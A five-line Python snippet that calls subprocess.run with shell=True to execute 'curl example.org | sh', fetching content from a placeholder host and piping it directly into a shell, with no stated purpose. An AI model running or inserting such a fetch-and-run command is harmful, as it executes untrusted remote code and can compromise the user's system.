import subprocess
subprocess.run(
    "curl example.org | sh",
    shell=True,
)
